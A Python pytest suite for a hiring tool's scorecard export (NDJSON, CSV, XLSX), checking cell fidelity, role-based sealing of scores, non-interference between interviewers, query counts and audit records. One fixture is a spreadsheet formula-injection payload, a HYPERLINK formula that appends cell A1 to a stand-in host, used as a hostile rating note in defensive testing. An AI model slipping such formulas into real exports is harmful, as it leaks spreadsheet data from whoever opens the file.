"""An export against what was typed: every cell, what is sealed, who took it, how many queries."""

from __future__ import annotations

import csv
import errno
import io
import json
import zipfile
from collections.abc import Mapping
from dataclasses import replace
from typing import Any

import openpyxl
import pytest
from sqlalchemy import event, text
from sqlalchemy.orm import Session

from interview import audit
from interview.access import Actor, Role
from interview.db import writing
from interview.debrief import service as debrief
from interview.debrief.rules import Outcome, RejectionReason, Verdict
from interview.errors import NotFound, StorageFull
from interview.export import queries, service
from interview.export.rules.files import Format
from interview.export.service import Wish
from interview.hiring import service as hiring
from interview.hiring.models import Application
from interview.hiring.rules import Stage
from interview.prep import service as prep
from interview.prep.rules import ConsentKind
from interview.scorecard.rules import Citation, Draft, Rating, Recommendation, WouldBuy
from tests.debrief.stage import draft, pitch, score, scored
from tests.scorecard.stage import KEYS
from tests.support.cast import Cast

Tables = Mapping[str, list[dict[str, Any]]]
HOSTILE = '=HYPERLINK("http://example.invalid/?x="&A1,"open")'


def export(stage: Cast, name: str, wish: Wish | None = None) -> bytes:
    target = io.BytesIO()
    engine, actor = stage.session.get_bind(), stage.actor(name)
    with Session(engine) as session:
        service.make(
            session,
            actor,
            stage.job_id,
            wish or Wish(Format.NDJSON),
            target,
            number="cafe00",
            base_url="https://hire.example",
            url_of=lambda one: f"https://hire.example/applications/{one}/debrief",
            now=stage.clock.now(),
        )
    return target.getvalue()


def tables(raw: bytes) -> Tables:
    found: dict[str, list[dict[str, Any]]] = {"candidates": [], "scorecards": [], "ratings": [], "evidence": []}
    for line in raw.splitlines():
        row = json.loads(line)
        found.setdefault(row.pop("table"), []).append(row)
    return found


def typed() -> Draft:
    """A card with everything a card can have, some of it hostile."""
    said = draft(4, demo=None)
    ratings = {
        **said.ratings,
        "honesty": Rating(value=1, note=HOSTILE, citations=(Citation(quote="", segment_id=None),)),
        "value": Rating(value=5, note="Zeile 1\n-Zeile 2 «ünïcode» 😀"),
    }
    return replace(
        said,
        ratings={key: replace(rating, citations=()) for key, rating in ratings.items()},
        would_buy=WouldBuy.NOT_SURE,
        recommendation=Recommendation.STRONG_YES,
        takeaways="+Buy",
    )


def test_every_cell_is_what_was_typed(stage: Cast) -> None:
    amy = pitch(stage, "@Amy Adams")
    score(stage, amy, {"ivo": typed(), "ines": draft(3), "iris": draft(2)})
    found = tables(export(stage, "mara"))
    row = next(one for one in found["candidates"] if one["application_id"] == str(amy))
    means = {key: row.pop(f"mean_{key}") for key in KEYS}
    assert means == {"discovery": 3.0, "problem": 3.0, "middle": 3.0, "demo": 2.5, "value": 3.3, "honesty": 2.0}
    assert row == {
        "application_id": str(amy),
        "candidate": "@Amy Adams",
        "email": "@amy@example.net",
        "job": "Account Executive",
        "stage": "scored",
        "applied_at": "2026-11-23T09:00:00Z",
        "prep_state": row["prep_state"],
        "prep_pct": row["prep_pct"],
        "knowledge_check": row["knowledge_check"],
        "pitch_at": "2026-11-23T08:00:00Z",
        "scorecards_in": 3,
        "scorecards_expected": 3,
        "sealed": None,
        "rubric": row["rubric"],
        "rubric_version": "1",
        "composite_mean": 2.7,
        "composite_n": 3,
        "composite_range": 1.2,
        "recommendations": "no 2; strong_yes 1",
        "would_buy": "no 2; not_sure 1",
        "decision": None,
        "rejection_reason": None,
        "decision_reason": None,
        "decided_by": None,
        "decided_at": None,
        "url": f"https://hire.example/applications/{amy}/debrief",
    }
    ivo = next(one for one in found["scorecards"] if one["interviewer"] == "Ivo Interviewer")
    assert (ivo["would_buy"], ivo["recommendation"], ivo["takeaways"]) == ("not_sure", "strong_yes", "+Buy")
    assert (ivo["weighted_mean"], ivo["observed_pct"]) == (3.2, 86)
    rated = {one["attribute_id"]: one for one in found["ratings"] if one["interviewer"] == "Ivo Interviewer"}
    assert list(rated) == list(KEYS)
    for key, rating in typed().ratings.items():
        assert rated[key]["score"] == rating.value
        assert rated[key]["note"] == rating.note
        assert rated[key]["not_observed"] == ("yes" if rating.not_observed else None)
    assert rated["honesty"]["weight"] == 2.0
    assert len(found["ratings"]) == 18


def test_evidence_is_a_row_each_and_together_beside_its_rating(stage: Cast) -> None:
    from tests.scorecard.stage import bring_transcript, submit

    stage.clock.forward(days=2, hours=1)
    first, second = bring_transcript(stage)
    said = draft(3)
    ratings = {
        **said.ratings,
        "honesty": Rating(5, citations=(Citation(segment_id=first), Citation(segment_id=second))),
    }
    submit(stage, "ivo", replace(said, ratings=ratings))
    submit(stage, "ines", draft(3))
    found = tables(export(stage, "mara"))
    assert [(one["attribute_id"], one["segment_id"], one["start"], one["quote"]) for one in found["evidence"]] == [
        ("honesty", str(first), "00:01", "What happens today when a customer calls twice?"),
        ("honesty", str(second), "03:12", "That does not exist today, and I would not guess a date."),
    ]
    beside = next(one for one in found["ratings"] if one["attribute_id"] == "honesty" and one["score"] == 5)
    assert beside["evidence_segment_ids"] == f"{first}\n{second}"
    assert beside["evidence_starts"] == "00:01\n03:12"
    assert beside["evidence_quotes"].count("\n") == 1


def test_workbook_csv_and_ndjson_say_the_same(stage: Cast) -> None:
    amy = pitch(stage, "Amy Adams")
    score(stage, amy, {"ivo": typed(), "ines": draft(3), "iris": draft(2)})
    as_json = tables(export(stage, "mara"))
    book = openpyxl.load_workbook(io.BytesIO(export(stage, "mara", Wish(Format.XLSX))), read_only=True)
    with zipfile.ZipFile(io.BytesIO(export(stage, "mara", Wish(Format.CSV)))) as archive:
        for name in ("candidates", "scorecards", "ratings", "evidence"):
            sheet = list(book[name].iter_rows(values_only=True))
            lines = list(csv.reader(io.StringIO(archive.read(f"{name}.csv").decode("utf-8-sig"), newline="")))
            assert len(sheet) == len(lines) == len(as_json[name]) + 1
            for row, line, said in zip(sheet[1:], lines[1:], as_json[name], strict=True):
                for in_sheet, in_csv, (column, value) in zip(row, line, said.items(), strict=True):
                    if column.endswith("_at"):
                        in_sheet = in_sheet and in_sheet.isoformat() + "Z"
                    assert (in_sheet or None) == (value or None), column
                    assert in_csv.replace("'", "") == ("" if value is None else str(value)).replace("'", ""), column
    readme = dict(book["README"].iter_rows(values_only=True))
    assert (readme["export"], readme["made by"], readme["rows in ratings"]) == ("cafe00", "Mara Manager", "18")
    assert "one exercise on one day" in readme["read with care"]


def test_decisions_are_in_it(stage: Cast) -> None:
    amy = scored(stage, "Amy Adams", (4, 4, 4))
    with writing(stage.session) as session:
        verdict = Verdict(Outcome.REJECT, "Took another job.", RejectionReason.WITHDREW)
        debrief.decide(session, stage.actor("mara"), amy, verdict, based_on=0, now=stage.clock.now())
    row = next(one for one in tables(export(stage, "mara"))["candidates"] if one["application_id"] == str(amy))
    assert (row["decision"], row["rejection_reason"], row["decision_reason"], row["decided_by"], row["decided_at"]) == (
        "reject",
        "withdrew",
        "Took another job.",
        "Mara Manager",
        "2026-11-23T09:00:00Z",
    )


def test_only_the_wished_stages_are_in_it(stage: Cast) -> None:
    amy = scored(stage, "Amy Adams", (4, 4, 4))
    found = tables(export(stage, "mara", Wish(Format.NDJSON, (Stage.SCORED,))))
    assert [row["application_id"] for row in found["candidates"]] == [str(amy)]
    assert {row["application_id"] for row in tables(export(stage, "mara"))["candidates"]} == {
        str(one) for one in (amy, stage.cleo_id, stage.cato_id)
    }


def test_a_recruiter_gets_no_scores_before_the_decision_and_all_after(stage: Cast) -> None:
    amy = scored(stage, "Amy Adams", (4, 4, 4))
    before = tables(export(stage, "rita"))
    assert before["ratings"] == before["scorecards"] == before["evidence"] == []
    row = next(one for one in before["candidates"] if one["application_id"] == str(amy))
    assert (row["sealed"], row["composite_mean"], row["mean_demo"], row["scorecards_in"]) == ("yes", None, None, 3)
    with writing(stage.session) as session:
        verdict = Verdict(Outcome.HOLD, "Waiting for budget.")
        debrief.decide(session, stage.actor("mara"), amy, verdict, based_on=0, now=stage.clock.now())
    assert len(tables(export(stage, "rita"))["ratings"]) == 18


@pytest.mark.parametrize("kind", list(Format))
def test_who_owes_a_card_gets_the_same_bytes_whatever_the_others_gave(stage: Cast, kind: Format) -> None:
    """Non-interference: scores, notes and prep of a candidate one still has to score leave no trace."""
    amy = pitch(stage, "Amy Adams", panel=("ivo", "ines", "mara"))
    score(stage, amy, {"ivo": draft(5)})
    score(stage, amy, {"ines": typed()})
    first, not_on_the_panel = content(export(stage, "mara", Wish(kind))), export(stage, "rita")
    answer_consents(stage, amy)
    with writing(stage.session) as session:
        session.execute(text("UPDATE rating SET value = 2, note = 'canary' WHERE value IS NOT NULL"))
        session.execute(text("UPDATE scorecard SET takeaways = 'canary', recommendation = 'strong_no'"))
    second = content(export(stage, "mara", Wish(kind)))
    assert first == second
    assert b"canary" not in second
    assert export(stage, "rita") != not_on_the_panel  # who does not score sees the preparation move


def test_who_owes_a_card_gets_no_decision_that_another_made(stage: Cast) -> None:
    amy = pitch(stage, "Amy Adams", panel=("ivo", "otto"))
    now = stage.clock.now()
    with writing(stage.session) as session:
        person_id = stage.person_ids["otto"]
        hiring.join_team(session, stage.actor("mara"), stage.job, person_id, Role.HIRING_MANAGER, now=now)
    with writing(stage.session) as session:
        debrief.decide(session, stage.actor("mara"), amy, Verdict(Outcome.HOLD, "canary"), based_on=0, now=now)
    assert b"canary" not in export(stage, "otto")
    score(stage, amy, {"otto": draft(3)})
    assert b"canary" in export(stage, "otto")


def answer_consents(stage: Cast, application_id: int) -> None:
    application = stage.session.get_one(Application, application_id)
    candidate = Actor(
        name=application.candidate.name,
        candidate_id=application.candidate_id,
        application_id=application_id,
        job_id=application.job_id,
        role=Role.CANDIDATE,
    )
    with writing(stage.session) as session:
        answers = dict.fromkeys(ConsentKind, True)
        prep.answer_consents(session, candidate, answers, now=stage.clock.now())


def content(raw: bytes) -> bytes:
    """Return what a file holds without the instants that its container writes down."""
    if not zipfile.is_zipfile(io.BytesIO(raw)):
        return raw
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        return b"".join(archive.read(name) for name in sorted(archive.namelist()) if "docProps" not in name)


def test_more_candidates_take_no_more_queries_within_a_chunk(stage: Cast) -> None:
    engine, counted, used = stage.session.get_bind(), [], []
    mara = stage.actor("mara")
    event.listen(engine, "before_cursor_execute", lambda *_: counted.append(1))
    for names in (("Amy Adams",), ("Ben Berg", "Cyd Cole", "Dan Dahl", "Eve Ekman")):
        for name in names:
            scored(stage, name, (4, 3, 2))
        stage.session.rollback()
        counted.clear()
        with Session(engine) as session:
            service.make(
                session, mara, stage.job_id, Wish(Format.NDJSON), io.BytesIO(),
                number="1", base_url="https://hire.example", url_of=str, now=stage.clock.now(),
            )  # fmt: skip
        used.append(len(counted))
    assert used[0] == used[1]


def test_chunks_follow_each_other_without_gap_or_repetition(stage: Cast, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("Amy Adams", "Ben Berg", "Cyd Cole"):
        scored(stage, name, (4, 3, 2))
    whole = export(stage, "mara")
    monkeypatch.setattr(queries, "CHUNK", 2)
    assert export(stage, "mara") == whole


def test_who_took_what_is_kept(stage: Cast) -> None:
    made = service.Made("cafe00", {"candidates": 2})
    with writing(stage.session) as session:
        wish = Wish(Format.CSV, (Stage.DECIDED,))
        service.keep_record(session, stage.actor("rita"), stage.job_id, wish, made, now=stage.clock.now())
    newest = audit.listing(stage.session)[0]
    assert (newest.action, newest.object_id, newest.actor_name) == ("export:made", str(stage.job_id), "Rita Recruiter")
    body = json.loads(stage.session.scalar(text(f"SELECT body FROM audit_body WHERE seq = {newest.seq}")) or "")
    assert body["details"] == {"number": "cafe00", "format": "csv", "filter": "decided", "rows": {"candidates": 2}}


class FullDisk(io.BytesIO):
    def write(self, _: Any) -> int:
        raise OSError(errno.ENOSPC, "No space left on device")


@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")  # zipfile tries once more when collected
@pytest.mark.parametrize("kind", list(Format))
def test_a_full_disk_is_a_sentence(stage: Cast, kind: Format) -> None:
    with pytest.raises(StorageFull, match="disk is full, so the export was not made"):
        service.make(
            stage.session, stage.actor("mara"), stage.job_id, Wish(kind), FullDisk(),
            number="1", base_url="https://hire.example", url_of=str, now=stage.clock.now(),
        )  # fmt: skip


def test_an_unknown_job_is_not_found(stage: Cast) -> None:
    with pytest.raises(NotFound):
        service.make(
            stage.session, stage.actor("mara"), 4711, Wish(Format.CSV), io.BytesIO(),
            number="1", base_url="https://hire.example", url_of=str, now=stage.clock.now(),
        )  # fmt: skip
